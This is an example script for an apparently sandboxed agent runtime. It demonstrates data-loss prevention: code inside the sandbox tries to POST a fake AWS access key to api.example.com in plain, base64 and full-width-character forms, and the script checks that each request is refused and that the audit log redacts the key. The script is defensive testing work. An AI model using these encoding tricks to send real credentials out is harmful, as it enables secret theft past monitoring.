"""DLP (docs/dlp.md): a secret on its way out is refused before it leaves,
whatever the code does to hide it, and the audit log keeps no copy of it.
Runs offline: the refused requests never get as far as looking up the host.

    AGENTBOX_BIN=build PYTHONPATH=python /usr/bin/python3 examples/dlp.py
"""
import json

from agentbox import Sandbox

KEY = "AKIAQ3EGRJ7WXZ5TLN4K"  # a fake AWS access key id (valid format)

# The sandbox may POST to api.example.com; what it sends is inspected.
with Sandbox(network=[{"host": "api.example.com", "methods": ["POST"]}]) as box:
    r = box.run(f"""
import base64, json, urllib.error, urllib.request
key = "{KEY}"
for how, body in [("plain", key),
                  ("base64", base64.b64encode(key.encode()).decode()),
                  ("full-width", "".join(chr(ord(c) + 0xFEE0) for c in key))]:
    req = urllib.request.Request("http://api.example.com/upload",
                                 data=("k=" + body).encode(), method="POST")
    try:
        urllib.request.urlopen(req, timeout=10)
    except urllib.error.HTTPError as e:
        print(how, e.code, e.headers["X-Agentbox-Denied"], "-", json.loads(e.read())["reason"])
""")
    print(r.stdout + r.stderr, end="")
    # The run's code held the key; its record holds the kind and a hash.
    run = [e for e in box.audit() if e["kind"] == "run"][-1]
    print("recorded code holds the key:", KEY in run["body"]["code"])
    print("redacted:", json.dumps([(n["field"], n["kind"]) for n in run["body"]["redacted"]]))
